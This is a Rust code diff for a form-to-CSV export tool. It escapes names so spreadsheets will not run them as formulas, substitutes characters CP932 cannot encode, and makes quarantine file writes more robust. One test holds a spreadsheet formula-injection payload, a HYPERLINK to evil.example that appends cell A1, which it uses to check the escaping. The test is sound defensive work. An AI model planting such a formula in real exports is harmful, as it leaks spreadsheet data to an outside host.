@@ -360,7 +360,10 @@ pub fn form_csv(
     for r in rows {
         let mut line = Vec::with_capacity(t.output.columns.len());
         for c in &t.output.columns {
-            let v = column_value(t, r, &c.value, batch_id);
+            let mut v = column_value(t, r, &c.value, batch_id);
+            if is_name_column(&c.value) {
+                v = name_cell(v, encoding);
+            }
             if encoding == OutputEncoding::Cp932 {
                 check_cp932(&v).map_err(|character| EmitError::Unencodable {
                     source_file: r.source.clone(),
@@ -390,6 +393,23 @@ pub fn form_csv(
             encoding_rs::SHIFT_JIS.encode(&text).0.into_owned()
         }
     })
+}
+
+/// Columns that carry names rather than values read from the form: a file
+/// or folder name, the reviewer's name. Anyone could have typed them.
+fn is_name_column(value: &str) -> bool {
+    matches!(value, "@source" | "@branch" | "@reviewer")
+}
+
+/// A name as an import CSV can hold it: in the output encoding (the exact
+/// name stays in `records.jsonl`), and never read by a spreadsheet as a
+/// formula.
+fn name_cell(v: String, encoding: OutputEncoding) -> String {
+    let v = match encoding {
+        OutputEncoding::Cp932 => crate::names::cp932_safe(&v).into_owned(),
+        OutputEncoding::Utf8 => v,
+    };
+    excel_safe(v)
 }
 
 /// `Err(c)` with the first character CP932 cannot hold.
@@ -707,8 +727,10 @@ pub fn quarantine(
 ) -> Result<QuarantineEntry, EmitError> {
     let dir = out_dir.join("quarantine");
     private_dir(&dir)?;
-    let flat = rel.replace('/', "__");
-    let (bytes, reason_text) = match std::fs::read(src) {
+    // Room for the longest suffix (`.reason.txt`) and a numbered prefix.
+    let flat = crate::names::fit(&rel.replace('/', "__"), crate::names::NAME_MAX - 24);
+    // Never through a link: what is copied is the file in the inbox itself.
+    let (bytes, reason_text) = match crate::intake::read_regular(src) {
         Ok(b) => (Some(b), format!("{rel}\n{reason}\n")),
         Err(e) => (
             None,
@@ -728,12 +750,22 @@ pub fn quarantine(
         name = format!("{n}__{flat}");
     }
     if let Some(b) = &bytes {
-        private_file(&dir.join(&name), b)?;
+        if let Err(e) = private_file(&dir.join(&name), b) {
+            let _ = std::fs::remove_file(dir.join(&name));
+            return Err(e);
+        }
     }
-    private_file(
+    // A copy without its reason is an orphan no one can act on.
+    if let Err(e) = private_file(
         &dir.join(format!("{name}.reason.txt")),
         reason_text.as_bytes(),
-    )?;
+    ) {
+        let _ = std::fs::remove_file(dir.join(format!("{name}.reason.txt")));
+        if bytes.is_some() {
+            let _ = std::fs::remove_file(dir.join(&name));
+        }
+        return Err(e);
+    }
     Ok(QuarantineEntry {
         source: rel.into(),
         reason: reason.into(),
@@ -817,10 +849,11 @@ columns = [{ header = "宛名番号", value = "atena_no" }, { header = "回答",
     #[test]
     fn an_unencodable_character_names_the_record() {
         let t = template();
-        let r = record("honcho/𠮷.png");
+        let mut r = record("honcho/a.png");
+        r.fields.get_mut("atena_no").unwrap().value = serde_json::json!("00𠮷2");
         let e = form_csv(&t, &[&r], "b1", None).unwrap_err().to_string();
         assert!(
-            e.contains("honcho/𠮷.png") && e.contains("元ファイル") && e.contains('𠮷'),
+            e.contains("honcho/a.png") && e.contains("宛名番号") && e.contains('𠮷'),
             "{e}"
         );
         assert!(form_csv(&t, &[&r], "b1", Some(OutputEncoding::Utf8)).is_ok());
@@ -908,29 +941,62 @@ columns = [{ header = "宛名番号", value = "atena_no" }, { header = "回答",
         std::fs::metadata(p).unwrap().permissions().mode() & 0o777
     }
 
+    /// Issue 15, item 3: a name CP932 cannot hold (an emoji, or a byte
+    /// that was not UTF-8, read as U+FFFD) used to fail the whole batch; it
+    /// is written with a stand-in, while a value read from the form that
+    /// CP932 cannot hold still stops the CSV.
     #[test]
-    fn an_emoji_is_named_not_replaced() {
+    fn a_name_cp932_lacks_gets_a_stand_in_and_a_read_value_still_fails() {
         let t = template();
-        let mut r = record("honcho/a.png");
+        let mut r = record("honcho/scan😀\u{FFFD}.png");
         r.branch = "本町😀".into();
         let mut t2 = t.clone();
         t2.output.columns.push(crate::template::Column {
             header: "受付".into(),
             value: "@branch".into(),
         });
+        let bytes = form_csv(&t2, &[&r], "b1", None).unwrap();
+        let (text, _, bad) = encoding_rs::SHIFT_JIS.decode(&bytes);
+        assert!(!bad);
+        assert!(text.ends_with(",honcho/scan〓〓.png,本町〓\r\n"), "{text}");
+        r.fields.get_mut("atena_no").unwrap().value = serde_json::json!("00😀2");
         match form_csv(&t2, &[&r], "b1", None) {
             Err(EmitError::Unencodable {
-                source_file,
                 page,
                 column,
                 character,
-            }) => {
-                assert_eq!(
-                    (source_file.as_str(), page, column.as_str(), character),
-                    ("honcho/a.png", 1, "受付", '😀')
+                ..
+            }) => assert_eq!((page, column.as_str(), character), (1, "宛名番号", '😀')),
+            other => panic!("{other:?}"),
+        }
+    }
+
+    /// Issue 15, item 14: a reviewer's name or a file name that a
+    /// spreadsheet would run as a formula went raw into the import CSV.
+    #[test]
+    fn names_in_the_import_csv_are_never_formulas() {
+        let mut t = template();
+        t.output.columns.push(crate::template::Column {
+            header: "確認者".into(),
+            value: "@reviewer".into(),
+        });
+        for encoding in [OutputEncoding::Cp932, OutputEncoding::Utf8] {
+            let mut r = record("@SUM(1+1).png");
+            r.reviewer = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")".into());
+            let bytes = form_csv(&t, &[&r], "b1", Some(encoding)).unwrap();
+            let text = encoding_rs::SHIFT_JIS.decode(&bytes).0.into_owned();
+            let row = text.lines().nth(1).unwrap();
+            let cells: Vec<&str> = row.split(',').collect();
+            assert_eq!(cells[3], "'@SUM(1+1).png", "{row}");
+            assert!(cells[4].starts_with("\"'=HYPERLINK("), "{row}");
+            for cell in cells {
+                assert!(
+                    !cell
+                        .trim_start_matches('"')
+                        .starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{row}"
                 );
             }
-            other => panic!("{other:?}"),
         }
     }
 
